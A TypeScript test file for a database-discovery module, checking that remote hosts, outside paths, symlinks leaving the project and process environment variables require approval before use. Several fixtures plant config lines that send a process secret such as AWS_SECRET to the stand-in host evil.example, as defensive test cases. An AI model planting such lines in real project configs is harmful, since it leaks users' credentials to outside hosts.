import { symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tempFolder } from '@molehill/core/testing/temp-folder';
import { describe, expect, test } from 'vitest';
import { addSqlite, projectOf } from '../testing/fixture-project.ts';
import { type DiscoveryOptions, discoverDatabases } from './discovery.ts';
import { shown } from './found.ts';

type Options = Partial<DiscoveryOptions>;
const discover = (root: string, options: Options = {}) =>
  discoverDatabases(root, { env: {}, insideContainer: false, ...options });

/** The same project after a person approved what it first asked for. */
async function approve(root: string, options: Options = {}) {
  const { meant } = await discover(root, options);
  return discover(root, { ...options, isApproved: (fingerprint) => fingerprint === meant?.fingerprint });
}

describe('what needs no approval', () => {
  test.each([
    'postgres://u:p@localhost/d',
    'postgres://u@127.0.0.1:5433/d',
    'mysql://u@[::1]/d',
    'postgres://u@127.3.2.1/d',
  ])('a database on this machine: %s', async (address) => {
    const { chosen } = await discover(projectOf({ '.env': `DATABASE_URL=${address}\n` }));
    expect(chosen?.needsApproval).toEqual([]);
  });

  test('a file of the project', async () => {
    const root = projectOf({ '.env': 'DATABASE_URL=sqlite:data/a.db\n' });
    addSqlite(root, 'data/a.db');
    expect((await discover(root)).chosen?.needsApproval).toEqual([]);
  });

  test('values of the project’s own files, and the name of the account', async () => {
    const files = {
      '.env': `PW=own\nDATABASE_URL=postgres://u:\${PW}@localhost/d\n`,
      'config/database.yml':
        "development:\n  adapter: postgresql\n  database: d\n  username: <%= ENV['USER'] %>\n",
    };
    const { databases } = await discover(projectOf(files), {
      env: { USER: 'somebody', PW: 'of-the-process' },
    });
    expect(databases.map(({ needsApproval }) => needsApproval)).toEqual([[], []]);
    expect(databases[0]?.connection?.password).toBe('own');
  });
});

describe('another host', () => {
  test.each<[string, string]>([
    ['postgres://u:p@db.example.com/d', 'db.example.com'],
    ['postgres://u:p@localhost.example.com/d', 'localhost.example.com'],
    ['postgres://u:p@127.0.0.1.example.com/d', '127.0.0.1.example.com'],
    ['postgres://u:p@127.0.0.999/d', '127.0.0.999'],
    ['mysql://u:p@10.1.2.3/d', '10.1.2.3'],
    ['postgres:///d?host=db.example.com', 'db.example.com'],
  ])('%s', async (address, detail) => {
    const { chosen, message } = await discover(projectOf({ '.env': `DATABASE_URL=${address}\n` }));
    expect(chosen?.needsApproval).toEqual([{ kind: 'host', detail }]);
    expect(message).toContain(`host ${detail}`);
  });

  test('the hosts of a tunnel', async () => {
    const database = {
      type: 'postgres',
      host: 'localhost',
      user: 'u',
      ssh: { host: 'jump.example.com', jump: [{ host: 'first.example.com' }] },
    };
    const { chosen } = await discover(projectOf({ '.molehill.json': JSON.stringify({ database }) }));
    expect(chosen?.needsApproval.map(({ detail }) => detail)).toEqual([
      'jump.example.com',
      'first.example.com',
    ]);
  });
});

describe('a path outside', () => {
  test('a database file', async () => {
    const file = addSqlite(tempFolder(), 'private.db');
    for (const files of [
      { '.molehill.json': JSON.stringify({ database: file }) },
      { '.env': `DATABASE_URL=sqlite://${file}\n` },
    ]) {
      const { chosen } = await discover(projectOf(files));
      expect(chosen?.needsApproval).toEqual([{ kind: 'path', detail: file }]);
    }
  });

  test('keys and certificates', async () => {
    const database = {
      dsn: 'postgres://u@localhost/d?sslrootcert=/etc/ssl/other.pem',
      ssh: { host: 'localhost', privateKey: '/home/ann/.ssh/id' },
    };
    const { chosen } = await discover(projectOf({ '.molehill.json': JSON.stringify({ database }) }));
    expect(chosen?.needsApproval).toEqual(
      expect.arrayContaining([
        { kind: 'path', detail: '/etc/ssl/other.pem' },
        { kind: 'path', detail: '/home/ann/.ssh/id' },
      ]),
    );
  });

  test('a link to a database file', async () => {
    const file = addSqlite(tempFolder(), 'private.db');
    const root = projectOf({ '.env': 'DATABASE_URL=sqlite:app.db\n' });
    symlinkSync(file, join(root, 'app.db'));
    expect((await discover(root)).chosen?.needsApproval).toEqual([{ kind: 'link', detail: file }]);
  });
});

describe('a variable of the process', () => {
  const env = {
    AWS_SECRET: 'planted-5ecret',
    DATABASE_URL: 'postgres://u:planted-5ecret@db.example.com/d',
    TARGET: 'db.example.com',
  };
  const uses: readonly (readonly [string, Readonly<Record<string, string>>, readonly string[]])[] = [
    [
      '.env',
      { '.env': `DATABASE_URL=postgres://x:\${AWS_SECRET}@evil.example/db\n` },
      ['variable AWS_SECRET', 'host evil.example'],
    ],
    [
      '.molehill.json',
      {
        '.molehill.json': `{"database": {"dsn": "postgres://x@evil.example/db", "password": "\${env:AWS_SECRET}"}}`,
      },
      ['variable AWS_SECRET', 'host evil.example'],
    ],
    [
      'Rails',
      {
        'config/database.yml':
          "development:\n  adapter: mysql2\n  database: d\n  host: <%= ENV.fetch('TARGET', 'localhost') %>\n",
      },
      ['variable TARGET', `host \${TARGET}`],
    ],
    [
      'Prisma',
      {
        'prisma/schema.prisma':
          'datasource db {\n  provider = "postgresql"\n  url = env("DATABASE_URL")\n}\n',
      },
      ['variable DATABASE_URL'],
    ],
    [
      'a default in JavaScript',
      {
        'knexfile.js':
          "module.exports = { client: 'pg', connection: { host: process.env.TARGET || 'localhost', database: 'd' } };",
      },
      ['variable TARGET', `host \${TARGET}`],
    ],
    [
      'a condition in Python',
      {
        'manage.py': '"DJANGO_SETTINGS_MODULE", "a.settings"',
        'a/settings.py':
          'import os, dj_database_url\nif "DATABASE_URL" in os.environ:\n    DATABASES = {"default": dj_database_url.config()}\nelse:\n    DATABASES = {"default": {"ENGINE": "sqlite3", "NAME": "x.db"}}\n',
      },
      ['variable DATABASE_URL'],
    ],
    [
      'docker compose',
      {
        'compose.yaml': `services:\n  db:\n    image: postgres\n    ports: ["5432:5432"]\n    environment: {POSTGRES_PASSWORD: "\${AWS_SECRET:-x}"}\n`,
      },
      ['variable AWS_SECRET'],
    ],
    [
      'Spring',
      {
        'src/main/resources/application.properties': `spring.datasource.url=jdbc:mysql://\${TARGET:localhost}/d\n`,
      },
      ['variable TARGET', `host \${TARGET}`],
    ],
  ];

  test.each(uses)('%s: is not read before it is approved', async (_, files, reasons) => {
    const root = projectOf(files);
    addSqlite(root, 'other.db');
    const { chosen, meant, databases, message } = await discover(root, { env });
    expect(chosen).toBeNull();
    expect(meant?.needsApproval.map(({ kind, detail }) => `${kind} ${detail}`)).toEqual(reasons);
    expect(message).toContain('molehill project approve');
    expect(JSON.stringify([databases, databases.map(shown), message])).not.toMatch(/5ecret|db\.example\.com/);
  });

  test.each(uses)('%s: is used once it is approved', async (_, files) => {
    const root = projectOf(files);
    const before = await discover(root, { env });
    const after = await approve(root, { env });
    expect(after.meant?.fingerprint).toBe(before.meant?.fingerprint);
    expect(after.meant?.needsApproval).toEqual(before.meant?.needsApproval);
    expect(JSON.stringify(after.chosen?.connection)).toMatch(/5ecret|db\.example\.com/);
  });

  test('an approval is for one database, not for others that use the variable', async () => {
    const root = projectOf({
      '.env': `DATABASE_URL=postgres://x:\${AWS_SECRET}@one.example/db\nDB_URL=postgres://x:\${AWS_SECRET}@two.example/db\n`,
    });
    const { databases } = await approve(root, { env });
    expect(databases.map(({ connection }) => connection?.password)).toEqual(['planted-5ecret', undefined]);
  });

  test('a changed entry is not approved', async () => {
    const root = projectOf({ '.env': `DATABASE_URL=postgres://x:\${AWS_SECRET}@one.example/db\n` });
    const { meant } = await discover(root, { env });
    writeFileSync(join(root, '.env'), `DATABASE_URL=postgres://x:\${AWS_SECRET}@two.example/db\n`);
    const isApproved = (fingerprint: string) => fingerprint === meant?.fingerprint;
    expect((await discover(root, { env, isApproved })).chosen).toBeNull();
  });

  test('a reference to a secret of the connections is refused', async () => {
    const address = `postgres://x:${encodeURIComponent(`\${keychain:work}`)}@evil.example/db`;
    const { chosen, message } = await discover(projectOf({ '.env': `DATABASE_URL=${address}\n` }));
    expect(chosen).toBeNull();
    expect(message).toContain('refers to a secret outside the project');
  });
});

describe('a link out of the project', () => {
  function linked() {
    const outside = projectOf({ 'other.env': 'DATABASE_URL=postgres://u:planted-5ecret@localhost/linked\n' });
    const root = projectOf({
      'compose.yaml': 'services:\n  db:\n    image: postgres\n    ports: ["5432:5432"]\n',
    });
    symlinkSync(join(outside, 'other.env'), join(root, '.env'));
    return { root, target: join(outside, 'other.env') };
  }

  test('is not read, is reported, and is not replaced by another database', async () => {
    const { root, target } = linked();
    const { chosen, meant, unread, message, databases } = await discover(root);
    expect(chosen).toBeNull();
    expect(unread).toEqual([{ file: '.env', reason: 'is a link that leads outside the project' }]);
    expect(meant).toMatchObject({ file: '.env', needsApproval: [{ kind: 'link', detail: target }] });
    expect(message).toContain('.env');
    expect(JSON.stringify([databases, message])).not.toContain('linked');
  });

  test('is read once it is approved', async () => {
    expect((await approve(linked().root)).chosen?.connection?.database).toBe('linked');
  });

  test('a link to a folder outside is not entered', async () => {
    const outside = projectOf({ 'web/.env': 'DATABASE_URL=postgres://u@localhost/outside\n' });
    const root = tempFolder();
    symlinkSync(outside, join(root, 'apps'));
    symlinkSync(join(outside, 'web'), join(root, 'server'));
    expect((await discover(root)).chosen).toBeNull();
    expect(JSON.stringify((await discover(root)).databases)).not.toContain('localhost');
  });

  test('a link within the project is read', async () => {
    const root = projectOf({ 'config/dev.env': 'DATABASE_URL=postgres://u@localhost/inside\n' });
    symlinkSync('config/dev.env', join(root, '.env'));
    expect((await discover(root)).chosen?.connection?.database).toBe('inside');
  });
});

test('the fingerprint depends on where it leads, not on the password', async () => {
  const of = async (address: string) =>
    (await discover(projectOf({ '.env': `DATABASE_URL=${address}\n` }))).chosen?.fingerprint;
  const fingerprint = await of('postgres://u:one@db.example.com/d');
  expect(await of('postgres://u:two@db.example.com/d')).toBe(fingerprint);
  for (const other of [
    'postgres://v:one@db.example.com/d',
    'postgres://u:one@db.example.org/d',
    'postgres://u:one@db.example.com:1/d',
    'mysql://u:one@db.example.com/d',
  ])
    expect(await of(other)).not.toBe(fingerprint);
});
